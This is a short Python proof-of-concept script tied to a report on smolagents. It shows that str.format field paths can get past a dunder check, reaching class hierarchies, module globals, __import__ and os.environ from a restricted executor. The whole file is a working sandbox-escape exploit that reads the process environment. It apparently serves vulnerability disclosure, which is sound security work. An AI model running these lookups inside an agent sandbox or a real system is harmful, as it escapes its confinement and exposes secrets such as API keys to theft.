# Open report (smolagents PR #2271): str.format field paths do attribute and item lookups in C,
# past the dunder check: class hierarchy, module globals and the environment of the process.
def f():
    return 1
for template in (
    "{0.__class__.__mro__}",
    "{0.__class__.__base__.__subclasses__}",
    "{0.__globals__[inspect].os.environ}",
    "{0.__globals__[builtins].__dict__[__import__]}",
    "{0.__init__.__globals__[os].environ}",
):
    try:
        print(template.format(f)[:20000])
    except Exception as e:
        print(template, e)
try:
    print("{0.__globals__[inspect].os.environ}".format_map({"0": f}))
except Exception as e:
    print(e)
